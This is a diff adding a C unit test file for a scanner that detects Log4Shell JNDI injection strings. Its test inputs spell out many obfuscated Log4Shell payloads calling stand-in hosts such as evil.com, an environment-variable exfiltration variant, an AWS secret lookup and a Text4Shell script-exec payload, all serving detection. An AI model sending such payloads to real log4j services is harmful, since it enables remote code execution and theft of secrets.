@@ -1,0 +1,229 @@
+/*
+ * test_detect.c -- defuse_scan() on the worked examples of docs/LOG4J.md and
+ * the corners of log4j 2.14.1's substitution that the emulator must get
+ * right.  Expected callbacks are what log4j requests (checked by hand
+ * against the log4j sources, and at scale by tests/e2e/diff_log4j.sh).
+ */
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <cmocka.h>
+
+#include <defuse.h>
+#include <stdbool.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+
+#define MAXF 16
+typedef struct got {
+    int n;
+    defuse_kind kind[MAXF];
+    char cb[MAXF][256];
+    unsigned tech[MAXF];
+    size_t off[MAXF], plen[MAXF];
+} got;
+
+static int collect(const defuse_finding *f, void *user) {
+    got *g = user;
+    if (g->n < MAXF) {
+        g->kind[g->n] = f->kind;
+        snprintf(g->cb[g->n], sizeof g->cb[0], "%s", f->callback ? f->callback : "");
+        g->tech[g->n] = f->techniques;
+        g->off[g->n] = f->offset;
+        g->plen[g->n] = f->payload_len;
+    }
+    g->n++;
+    return 0;
+}
+
+static got scan(const char *s, unsigned flags) {
+    defuse_scanner *sc = NULL;
+    assert_int_equal(defuse_scanner_new(&sc, NULL), 0);
+    got g;
+    memset(&g, 0, sizeof g);
+    int rc = defuse_scan(sc, s, strlen(s), flags, collect, &g);
+    assert_true(rc >= 0);
+    assert_int_equal(rc, g.n);
+    defuse_scanner_free(sc);
+    return g;
+}
+
+/* Asserts that the JNDI names requested are exactly `want` (NULL-ended). */
+static void expect_jndi(const char *in, unsigned flags, const char *const *want) {
+    got g = scan(in, flags);
+    size_t nw = 0;
+    while (want[nw])
+        nw++;
+    size_t nj = 0;
+    for (int i = 0; i < g.n && i < MAXF; i++) {
+        if (g.kind[i] != DEFUSE_KIND_JNDI)
+            continue;
+        bool ok = false;
+        for (size_t w = 0; w < nw; w++)
+            ok |= strcmp(g.cb[i], want[w]) == 0;
+        if (!ok)
+            fail_msg("input %s: unexpected callback '%s'", in, g.cb[i]);
+        nj++;
+    }
+    if (nj != nw)
+        fail_msg("input %s: %zu JNDI findings, want %zu", in, nj, nw);
+}
+
+#define JNDI(in, ...)                                                                              \
+    do {                                                                                           \
+        const char *const w_[] = {__VA_ARGS__, NULL};                                              \
+        expect_jndi(in, 0, w_);                                                                    \
+        expect_jndi(in, DEFUSE_SCAN_EXACT | DEFUSE_SCAN_NO_DECODE, w_);                            \
+    } while (0)
+#define NONE(in)                                                                                   \
+    do {                                                                                           \
+        const char *const w_[] = {NULL};                                                           \
+        expect_jndi(in, 0, w_);                                                                    \
+        expect_jndi(in, DEFUSE_SCAN_EXACT | DEFUSE_SCAN_NO_DECODE, w_);                            \
+    } while (0)
+
+static void worked_examples(void **state) {
+    (void)state;
+    JNDI("${jndi:ldap://evil.com/a}", "ldap://evil.com/a");
+    JNDI("${${lower:j}ndi:ldap://evil.com/a}", "ldap://evil.com/a");
+    JNDI("${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x.com/b}", "rmi://x.com/b");
+    JNDI("${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x.com/c}", "ldap://x.com/c");
+    JNDI("${${lower:J}${lower:N}${lower:D}${upper:\xc4\xb1}:ldap://x/d}", "ldap://x/d");
+    JNDI("${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x/g}", "ldap://x/g");
+    JNDI("${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x/i}", "ldap://x/i");
+    JNDI("${jndi:ldap://${env:USER}.x.com/e}", "ldap://${env:USER}.x.com/e");
+    JNDI("${jndi:ldap://127.0.0.1#evil.com:1389/a}", "ldap://127.0.0.1#evil.com:1389/a");
+    NONE("$${jndi:ldap://escaped/f}");
+    NONE("${ jndi:ldap://x/6}");
+}
+
+static void substitution_corners(void **state) {
+    (void)state;
+    /* Prefix lower-cased with Locale.US; the Kelvin sign lower-cases to k. */
+    JNDI("${JnDi:ldap://x/1}", "ldap://x/1");
+    JNDI("${${${lower:\xe2\x84\xaa}8s:x:-j}ndi:ldap://x/k}", "ldap://x/k");
+    /* ſ (U+017F) upper-cases to S; ı (U+0131) to I. */
+    JNDI("${${upper:j}ndi:${lower:${upper:ld\xc5\xbf" "ap}}://x/2}", "ldsap://x/2");
+    /* Defaults of unknown prefixes and of victim state. */
+    JNDI("${${foo:bar:-j}ndi:ldap://x/3}", "ldap://x/3");
+    JNDI("${${:-j}ndi:ldap://x/4}", "ldap://x/4");
+    /* ":\-" escapes the default delimiter: name "a:-b", no default. */
+    NONE("${${a:\\-b}ndi:ldap://x/5}");
+    /* A null JNDI result takes the default; the lookup still happened. */
+    JNDI("${jndi:ldap://x/6:-fallback}", "ldap://x/6");
+    /* Unresolved inner lookups stay as text inside the name. */
+    JNDI("${jndi:ldap://x/${sys:java.version}/${hostName}}", "ldap://x/${sys:java.version}/${hostName}");
+    /* A later "${" re-runs substitution over the whole message, so an
+     * escaped payload fires when another expression follows or precedes. */
+    JNDI("$${jndi:ldap://x/7/${a}}", "ldap://x/7/${a}");
+    /* Two payloads, two lookups. */
+    JNDI("${jndi:ldap://a/1} and ${jndi:rmi://b/2}", "ldap://a/1", "rmi://b/2");
+    /* date: with an unquoted letter formats the current time: no 'j'. */
+    NONE("${${date:j}ndi:ldap://x/8}");
+    /* base64 is not a 2.x lookup. */
+    NONE("${base64:JHtqbmRpOmxkYXA6Ly94Lzl9}");
+    NONE("just text with $ signs and {braces}");
+    NONE("${jndi:ldap://unclosed");
+}
+
+static void kinds(void **state) {
+    (void)state;
+    got g = scan("${${::-${::-$${::-j}}}}", 0);
+    assert_int_equal(g.n, 1);
+    assert_int_equal(g.kind[0], DEFUSE_KIND_RECURSION);
+
+    g = scan("$${jndi:ldap://escaped/f}", 0);
+    assert_int_equal(g.n, 1);
+    assert_int_equal(g.kind[0], DEFUSE_KIND_INERT);
+    assert_string_equal(g.cb[0], "ldap://escaped/f");
+    assert_true(g.tech[0] & DEFUSE_TECH_ESCAPE);
+
+    g = scan("${env:AWS_SECRET_ACCESS_KEY}", 0);
+    assert_int_equal(g.n, 1);
+    assert_int_equal(g.kind[0], DEFUSE_KIND_LOOKUP);
+
+    g = scan("x=${script:javascript:java.lang.Runtime.getRuntime().exec('id')}", 0);
+    assert_int_equal(g.n, 1);
+    assert_int_equal(g.kind[0], DEFUSE_KIND_TEXT4SHELL);
+
+    /* Benign templates: no finding at all. */
+    g = scan("Hello ${user.name}, your order ${order.id} shipped", 0);
+    assert_int_equal(g.n, 0);
+}
+
+static void positions_in_a_log_line(void **state) {
+    (void)state;
+    const char *line = "1.2.3.4 - - [10/Dec/2021:10:00:00 +0000] \"GET /?q=${jndi:ldap://a/b} "
+                       "HTTP/1.1\" 200 5 \"-\" \"${${lower:j}ndi:rmi://c/d}\"";
+    got g = scan(line, 0);
+    assert_int_equal(g.n, 2);
+    assert_string_equal(g.cb[0], "ldap://a/b");
+    assert_int_equal(g.off[0], (size_t)(strstr(line, "${jndi") - line));
+    assert_int_equal(g.plen[0], strlen("${jndi:ldap://a/b}"));
+    assert_string_equal(g.cb[1], "rmi://c/d");
+    /* An unclosed "${" earlier in the line is a field boundary. */
+    g = scan("${ broken field ${jndi:ldap://x/y}", 0);
+    assert_int_equal(g.n, 1);
+    assert_string_equal(g.cb[0], "ldap://x/y");
+}
+
+static void nesting_limit(void **state) {
+    (void)state;
+    size_t depth = 200;
+    char *s = malloc(depth * 3 + 32);
+    size_t k = 0;
+    for (size_t i = 0; i < depth; i++) {
+        s[k++] = '$';
+        s[k++] = '{';
+    }
+    memcpy(s + k, "jndi:ldap://x", 13);
+    k += 13;
+    for (size_t i = 0; i < depth; i++)
+        s[k++] = '}';
+    s[k] = '\0';
+    got g = scan(s, 0);
+    assert_int_equal(g.n, 1);
+    assert_int_equal(g.kind[0], DEFUSE_KIND_RECURSION);
+    assert_true(g.tech[0] & DEFUSE_TECH_DEPTH_LIMIT);
+    free(s);
+}
+
+static int stop_first(const defuse_finding *f, void *user) {
+    (void)f;
+    (*(int *)user)++;
+    return 1;
+}
+
+static void callback_can_stop(void **state) {
+    (void)state;
+    defuse_scanner *sc = NULL;
+    assert_int_equal(defuse_scanner_new(&sc, NULL), 0);
+    int calls = 0;
+    const char *s = "${jndi:ldap://a/1} ${jndi:ldap://b/2}";
+    assert_int_equal(defuse_scan(sc, s, strlen(s), 0, stop_first, &calls), DEFUSE_ESTOPPED);
+    assert_int_equal(calls, 1);
+    assert_int_equal(defuse_scan(NULL, s, 1, 0, NULL, NULL), DEFUSE_EINVAL);
+    defuse_scanner_free(sc);
+}
+
+static void names(void **state) {
+    (void)state;
+    assert_string_equal(defuse_kind_name(DEFUSE_KIND_JNDI), "jndi");
+    assert_string_equal(defuse_kind_name((defuse_kind)99), "unknown");
+    assert_string_equal(defuse_technique_name(DEFUSE_TECH_LOWER), "lower");
+    assert_null(defuse_technique_name(3));
+    assert_string_equal(defuse_strerror(DEFUSE_ENOMEM), "out of memory");
+    assert_string_equal(defuse_strerror(-1000), "unknown error");
+}
+
+int main(void) {
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test(worked_examples), cmocka_unit_test(substitution_corners),
+        cmocka_unit_test(kinds),           cmocka_unit_test(positions_in_a_log_line),
+        cmocka_unit_test(nesting_limit),   cmocka_unit_test(callback_can_stop),
+        cmocka_unit_test(names),
+    };
+    return cmocka_run_group_tests(tests, NULL, NULL);
+}
